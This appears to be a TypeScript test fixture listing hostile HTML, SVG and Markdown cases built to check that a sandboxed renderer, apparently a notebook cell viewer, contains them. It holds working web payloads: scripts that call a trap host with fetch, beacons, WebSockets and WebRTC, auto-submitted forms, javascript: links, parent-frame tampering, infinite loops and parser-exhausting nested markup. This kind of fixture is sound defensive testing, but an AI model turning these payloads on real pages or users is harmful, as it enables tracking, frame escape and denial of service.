import { type HostileCase, html, svg, TRAP, text } from "./case.ts";

const wide =
  "position:fixed;inset:0;width:100332px;height:100332px;z-index:2147483647;background:red";
const stun = `stun:${TRAP.replace("http://", "")}`;

/** HTML, Markdown and drawings that reach out of their cell. */
export const MARKUP: readonly HostileCase[] = [
  html("meta-refresh", `<meta http-equiv=refresh content="0;url=${TRAP}/refresh">text`),
  html(
    "links",
    [
      "preconnect",
      "dns-prefetch",
      "prefetch",
      "preload",
      "prerender",
      "modulepreload",
      "stylesheet",
      "manifest",
      "icon",
    ]
      .map((rel) => `<link rel=${rel} as=script href="${TRAP}/${rel}">`)
      .join(""),
  ),
  html(
    "base-and-form",
    `<base href="${TRAP}/"><form action="${TRAP}/form"><input name=a autofocus><button id=b>go</button></form><script>document.forms[0].submit()</script>`,
  ),
  html(
    "frames-in-it",
    `<iframe src="${TRAP}/frame"></iframe><iframe srcdoc="<script>parent.postMessage({height:9e9},'*')</script>"></iframe><object data="${TRAP}/o"></object><embed src="${TRAP}/e">`,
  ),
  html(
    "images",
    `<style>b{background:url(${TRAP}/css)} @import url(${TRAP}/import.css); @font-face{font-family:x;src:url(${TRAP}/font)}</style><b style="font-family:x">x</b><img src="${TRAP}/img" srcset="${TRAP}/set 2x"><video src="${TRAP}/v" poster="${TRAP}/p"></video><img src="/api/contents" onerror="document.title='taken'">`,
  ),
  html("style-escapes", `<div style="${wide}">x</div><style>:host,html,body{${wide}}</style>`),
  html(
    "wide-attributes",
    `<table width=100332><tr><td width=100332 height=100332 nowrap>x</td></tr></table><img width=100332 height=100332 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><hr width=100332>`,
  ),
  html(
    "ids-of-the-page",
    `<div id=app class="cell header tools">x</div><a name=files href="#app">y</a><img name=getElementById src=x>`,
  ),
  html(
    "commands",
    `<a href="command:run">a</a> <a href="java&#10;script:document.title='taken'">b</a> <b data-command=run accesskey=r tabindex=1 contenteditable autofocus>c</b>`,
  ),
  // The browser puts the frames of the next case, another tab, into the process that hangs by this one.
  html("script-endless", "<p>x</p><script>while (true) {}</script>"),
  html(
    "script-messages",
    "<p>x</p><script>setInterval(() => { for (let i = 0; i < 5000; i++) parent.postMessage({ height: i % 3000 }, '*') }, 0)</script>",
  ),
  html(
    "script-heights",
    "<div id=d></div><script>new ResizeObserver(() => { d.style.height = innerHeight + 50 + 'px' }).observe(document.documentElement)</script>",
  ),
  html(
    "script-focus",
    "<input id=i autofocus><script>setInterval(() => { i.focus(); i.select() }, 1)</script>",
  ),
  html(
    "script-network",
    `<script>fetch("${TRAP}/fetch"); navigator.sendBeacon("${TRAP}/beacon"); new Image().src = "${TRAP}/image"; new WebSocket("${TRAP.replace("http", "ws")}/ws"); new EventSource("${TRAP}/es"); import("${TRAP}/m.js")</script>`,
  ),
  html(
    "script-links",
    `<script>for (const rel of ["preconnect", "dns-prefetch", "prefetch"]) { const l = document.createElement("link"); l.rel = rel; l.href = "${TRAP}/"; document.head.append(l); document.body.insertAdjacentHTML("beforeend", '<link rel=' + rel + ' href="${TRAP}/">') }</script>`,
  ),
  {
    ...html(
      "script-location",
      `<script>setTimeout(() => { location = "${TRAP}/location" }, 0); window.open("${TRAP}/open"); top.location = "${TRAP}/top"</script>`,
    ),
    mayConnect: true,
  },
  html(
    "script-webrtc",
    `<script>const f = document.createElement("iframe"); f.srcdoc = "<script>new RTCPeerConnection({iceServers:[{urls:'${stun}'}]}).createDataChannel('x')<\\/script>"; document.body.append(f); const p = new RTCPeerConnection({iceServers:[{urls:"${stun}"}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>`,
  ),
  html(
    "script-parent",
    `<script>try { parent.document.title = "taken" } catch {} try { top.localStorage.clear() } catch {} parent.postMessage({ type: "holdfast.show", markup: "x" }, "*"); document.documentElement.requestFullscreen?.(); document.body.requestPointerLock?.(); alert(1)</script>`,
  ),
  html(
    "handlers",
    `<img src=x onerror="document.title='taken'"><svg onload="while(1){}"></svg><details open ontoggle="while(1){}"><summary>x</summary></details>`,
  ),
  html("deep", `${"<div>".repeat(100_000)}x`),
  html("deep-behind-closers", `${"<div></p></x>".repeat(50_000)}x`),
  html("deep-behind-comments", `${"<div><!--</div>-->".repeat(50_000)}x`),
  html("deep-behind-attributes", `${`<div title="</div>">`.repeat(50_000)}x`),
  html("deep-cells", `${"<table><tr><td>".repeat(30_000)}x`),
  html(
    "reopened",
    `${Array.from({ length: 500 }, (_, i) => `<b title=${i}>`).join("")}${"<p>x".repeat(50_000)}`,
  ),
  html(
    "attributes",
    `<div ${Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join(" ")}>x</div>`,
  ),
  html("entities", "&amp;&lt;&notanentity".repeat(40_000)),
  html("huge-table", `<table>${`<tr>${"<td>1".repeat(100)}`.repeat(2_000)}</table>`),
  svg(
    "svg-network",
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${TRAP}/svg.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${TRAP}/fo"/></foreignObject><use href="${TRAP}/u.svg#a"/><style>@import url(${TRAP}/s.css);</style></svg>`,
  ),
  svg(
    "svg-script",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="while(1){}"><script>top.document.title='taken'</script><animate attributeName=href values="javascript:alert(1)"/><a href="javascript:alert(1)"><text y="20">x</text></a></svg>`,
  ),
  svg(
    "svg-uses",
    `<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 20 }, (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`).join("")}</defs><use href="#a20"/></svg>`,
  ),
  svg(
    "svg-huge",
    `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="10000000"><rect width="1" height="10000000"/></svg>`,
  ),
  svg("svg-half-character", `<svg xmlns="http://www.w3.org/2000/svg"><text>\ud800</text></svg>`),
  text(
    "md-style",
    `<div style="${wide}">x</div><style>*{display:none!important}</style>\n\n<p style="position:fixed;top:0">y</p>`,
  ),
  text(
    "md-attachment-escape",
    "![x](attachment:%E0%A4%A) and ![y](attachment:__proto__) and ![z](attachment:constructor)",
    { "a.png": { "image/png": "AAAA" } },
  ),
  text(
    "md-image-addresses",
    `![a](//${TRAP.slice(7)}/a.png) ![b](${TRAP}/b.png) ![c](\\\\${TRAP.slice(7)}/c.png) ![d](http://[) ![e](//[) ![f](%E0%A4%A)`,
  ),
  text(
    "md-links",
    "[a](command:run) [b](javascript:alert(1)) [c](vbscript:x) [d](data:text/html,x) [e](//[) [f](%E0%A4%A)",
  ),
  text(
    "md-html",
    `<form action="${TRAP}"><input autofocus><button>Run</button></form><dialog open>x</dialog><iframe src="${TRAP}"></iframe><object data="${TRAP}"></object><slot></slot>`,
  ),
  text("md-quotes", `${">".repeat(50_000)} x`),
  text("md-lists", `${"- ".repeat(50_000)}x`),
  text("md-emphasis", `${"*a".repeat(60_000)}${"*".repeat(60_000)}`),
  text("md-brackets", "[".repeat(500_000)),
  text("md-html-deep", "<blockquote>\n\n".repeat(30_000)),
  text("md-fence", `\`\`\`ts\n${"=/[".repeat(300_000)}\n\`\`\``),
  text("md-template-braces", `\`\`\`ts\n\`\${${`${"{".repeat(500)}\n`.repeat(1_000)}\n\`\`\``),
];
